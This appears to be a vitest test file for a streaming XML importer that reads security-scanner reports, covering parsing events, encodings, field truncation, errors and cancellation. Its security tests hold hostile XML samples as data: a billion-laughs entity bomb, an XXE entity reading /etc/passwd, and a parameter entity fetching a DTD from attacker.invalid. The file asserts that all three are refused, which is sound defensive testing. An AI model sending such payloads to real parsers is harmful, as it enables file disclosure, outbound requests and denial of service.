import { Readable, addAbortSignal } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { MAX_FIELD_CHARS, type ImportRecord } from '../../../../src-main/importers/types';
import {
  readXml,
  type XmlAttrs,
  type XmlDocument,
  type XmlHandler,
} from '../../../../src-main/importers/xml/stream-xml';
import { collect, expectVzError } from './helpers';

interface Event {
  type: 'open' | 'close';
  name: string;
  depth: number;
  attrs?: XmlAttrs;
  text?: string;
  before?: string;
}

/** Records every event; elements named in `capture` / `skip` use those reader features. */
class Recorder implements XmlHandler {
  readonly events: Event[] = [];
  constructor(
    private readonly doc: XmlDocument,
    private readonly options: { capture?: string[]; skip?: string[]; emit?: boolean } = {},
  ) {}
  open(name: string, attrs: XmlAttrs, depth: number): void {
    this.events.push({ type: 'open', name, depth, attrs, before: this.doc.text });
    if (this.options.capture?.includes(name)) this.doc.captureSubtree();
    if (this.options.skip?.includes(name)) this.doc.skipSubtree();
  }
  close(name: string, text: string, _attrs: XmlAttrs, depth: number): void {
    this.events.push({ type: 'close', name, depth, text });
    if (this.options.emit) this.doc.emit({ kind: 'note', message: `closed ${name}` });
  }
}

function chunks(text: string | Buffer, size: number): Readable {
  const buffer = typeof text === 'string' ? Buffer.from(text) : text;
  const parts: Buffer[] = [];
  for (let i = 0; i < buffer.length; i += size) parts.push(buffer.subarray(i, i + size));
  return Readable.from(parts);
}

async function run(
  text: string | Buffer,
  options: { capture?: string[]; skip?: string[]; emit?: boolean } = {},
  chunkSize = 7,
): Promise<{ events: Event[]; records: ImportRecord[] }> {
  let recorder: Recorder | undefined;
  const { records } = await collect(
    readXml(chunks(text, chunkSize), { fileName: 'doc.xml' }, (doc) => {
      recorder = new Recorder(doc, options);
      return recorder;
    }),
  );
  return { events: recorder?.events ?? [], records };
}

async function failure(text: string | Buffer | Readable, signal?: AbortSignal): Promise<unknown> {
  const input = text instanceof Readable ? text : chunks(text, 5);
  try {
    await collect(readXml(input, { fileName: 'doc.xml', signal }, (doc) => new Recorder(doc)));
  } catch (e) {
    return e;
  }
  return undefined;
}

describe('readXml events', () => {
  it('reports open/close with attributes, depth and decoded text, across tiny chunks', async () => {
    const { events } = await run(
      '<?xml version="1.0"?><r a="1"><item id="x&amp;y">caf\u00e9 &lt;3 <![CDATA[<raw>]]></item><e/></r>',
    );
    expect(events).toEqual([
      { type: 'open', name: 'r', depth: 1, attrs: { a: '1' }, before: '' },
      { type: 'open', name: 'item', depth: 2, attrs: { id: 'x&y' }, before: '' },
      { type: 'close', name: 'item', depth: 2, text: 'caf\u00e9 <3 <raw>' },
      { type: 'open', name: 'e', depth: 2, attrs: {}, before: '' },
      { type: 'close', name: 'e', depth: 2, text: '' },
      { type: 'close', name: 'r', depth: 1, text: '' },
    ]);
  });

  it('gives the mixed content before a child in open (OpenVAS <host>ip<asset/></host>)', async () => {
    const { events } = await run('<r><host>10.0.0.1<asset/><hostname>h</hostname></host></r>');
    expect(events.find((e) => e.type === 'open' && e.name === 'asset')?.before).toBe('10.0.0.1');
  });

  it('decodes multi-byte UTF-8 split across chunks and skips a BOM', async () => {
    const { events } = await run(Buffer.from('\ufeff<r>\u00e9\u20ac\u{1f600}</r>'), {}, 1);
    expect(events.at(-1)).toMatchObject({ name: 'r', text: '\u00e9\u20ac\u{1f600}' });
  });

  it('decodes files that declare ISO-8859-1', async () => {
    const { events } = await run(
      Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><r>caf\xe9</r>', 'latin1'),
    );
    expect(events.at(-1)).toMatchObject({ name: 'r', text: 'caf\u00e9' });
  });

  it('captures the text of a whole subtree with line breaks between elements', async () => {
    const { events } = await run(
      '<r><test><P>one <b>two</b></P><P>three</P></test><after>x</after></r>',
      { capture: ['test'] },
    );
    const text = events.find((e) => e.type === 'close' && e.name === 'test')?.text ?? '';
    expect(text.split('\n').filter(Boolean)).toEqual(['one two', 'three']);
    expect(events.find((e) => e.type === 'close' && e.name === 'after')?.text).toBe('x');
  });

  it('skips a subtree entirely: no events inside, none for the element', async () => {
    const { events } = await run('<r><Policy><big>aaaa</big></Policy><Report>y</Report></r>', {
      skip: ['Policy'],
    });
    expect(events.map((e) => `${e.type}:${e.name}`)).toEqual([
      'open:r',
      'open:Policy',
      'open:Report',
      'close:Report',
      'close:r',
    ]);
  });

  it('cuts text at MAX_FIELD_CHARS with one note per element name', async () => {
    const long = 'x'.repeat(MAX_FIELD_CHARS + 10);
    const { events, records } = await run(
      `<r><plugin_output>${long}</plugin_output><plugin_output>${long}</plugin_output></r>`,
      {},
      4096,
    );
    const texts = events.filter((e) => e.type === 'close' && e.name === 'plugin_output');
    expect(texts.map((e) => e.text?.length)).toEqual([MAX_FIELD_CHARS, MAX_FIELD_CHARS]);
    expect(records).toEqual([
      {
        kind: 'note',
        message: `doc.xml: <plugin_output> text longer than ${MAX_FIELD_CHARS} characters was cut to that length.`,
      },
    ]);
  });

  it('yields what handlers emit while the input is still being read', async () => {
    let produced = 0;
    async function* source(): AsyncGenerator<Buffer> {
      yield Buffer.from('<r>');
      for (let i = 0; i < 1000; i++) {
        produced++;
        yield Buffer.from(`<item>${i}</item>`);
      }
      yield Buffer.from('</r>');
    }
    let producedAtFirstRecord = -1;
    for await (const record of readXml(
      Readable.from(source()),
      { fileName: 'doc.xml' },
      (doc) => new Recorder(doc, { emit: true }),
    )) {
      if (producedAtFirstRecord < 0 && record.kind === 'note') producedAtFirstRecord = produced;
    }
    expect(produced).toBe(1000);
    expect(producedAtFirstRecord).toBeGreaterThan(0);
    // Only the encoding probe (256 bytes) and the stream read-ahead come first.
    expect(producedAtFirstRecord).toBeLessThan(100);
  });
});

describe('readXml security', () => {
  it('accepts a plain DOCTYPE (nmap) and an external DTD id it never reads (Qualys)', async () => {
    expect(await failure('<!DOCTYPE nmaprun>\n<nmaprun/>')).toBeUndefined();
    expect(
      await failure(
        '<!DOCTYPE SCAN SYSTEM "https://qualysguard.qg2.apps.qualys.com/scan-1.dtd">\n<SCAN/>',
      ),
    ).toBeUndefined();
  });

  it('refuses billion laughs, XXE and parameter entities with IMPORT_UNSAFE', async () => {
    const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>`;
    const xxe = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
    const param = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><x/>';
    for (const doc of [laughs, xxe, param]) {
      const vz = expectVzError(await failure(doc), 'IMPORT_UNSAFE');
      expect(vz.message).toBe('doc.xml: DOCTYPE with entity declarations is refused.');
    }
  });

  it('refuses a prolog larger than 4 MiB before the root element', async () => {
    const huge = `<!-- ${'x'.repeat(5 * 1024 * 1024)} --><r/>`;
    expectVzError(await failure(chunks(huge, 1024 * 1024)), 'IMPORT_UNSAFE');
  });

  it('reports undeclared entity references as malformed (never expanded)', async () => {
    expectVzError(await failure('<r>&xxe;</r>'), 'IMPORT_MALFORMED');
  });
});

describe('readXml errors', () => {
  it('turns syntax errors into IMPORT_MALFORMED with file, line and column', async () => {
    const vz = expectVzError(await failure('<r>\n  <a>\n  </b>\n</r>'), 'IMPORT_MALFORMED');
    expect(vz.message).toMatch(/^doc\.xml: line 3, column \d+: /);
    expect(vz.details).toMatchObject({ fileName: 'doc.xml', line: 3 });
  });

  it('reports a truncated file as ending too early', async () => {
    const vz = expectVzError(await failure('<r>\n<item>text'), 'IMPORT_MALFORMED');
    expect(vz.message).toMatch(/^doc\.xml: line 2, column \d+: the file ends too early/);
  });

  it('reports empty and non-XML input as malformed', async () => {
    expectVzError(await failure(''), 'IMPORT_MALFORMED');
    expectVzError(await failure('{"json": true}'), 'IMPORT_MALFORMED');
  });

  it('turns read errors of the input stream into IMPORT_MALFORMED', async () => {
    const broken = new Readable({
      read() {
        this.destroy(Object.assign(new Error('input/output error'), { code: 'EIO' }));
      },
    });
    const vz = expectVzError(await failure(broken), 'IMPORT_MALFORMED');
    expect(vz.message).toContain('could not be read (EIO');
  });
});

describe('readXml cancellation', () => {
  it('stops with CANCELLED when the signal is already aborted', async () => {
    const controller = new AbortController();
    controller.abort();
    expectVzError(await failure('<r/>', controller.signal), 'CANCELLED');
  });

  it('stops with CANCELLED when aborted mid-stream', async () => {
    const controller = new AbortController();
    const items = Array.from({ length: 200 }, (_, i) => `<item>${i}</item>`).join('');
    const source = readXml(
      chunks(`<r>${items}</r>`, 64),
      { fileName: 'doc.xml', signal: controller.signal },
      (doc) => new Recorder(doc, { emit: true }),
    );
    let seen = 0;
    let error: unknown;
    try {
      for await (const record of source) {
        void record;
        seen++;
        if (seen === 3) controller.abort();
      }
    } catch (e) {
      error = e;
    }
    expectVzError(error, 'CANCELLED');
    expect(seen).toBeLessThan(200);
  });

  it('maps an AbortError of the input stream to CANCELLED', async () => {
    const controller = new AbortController();
    const input = addAbortSignal(
      controller.signal,
      new Readable({
        read() {
          this.push('<r>');
          controller.abort();
        },
      }),
    );
    expectVzError(await failure(input), 'CANCELLED');
  });
});
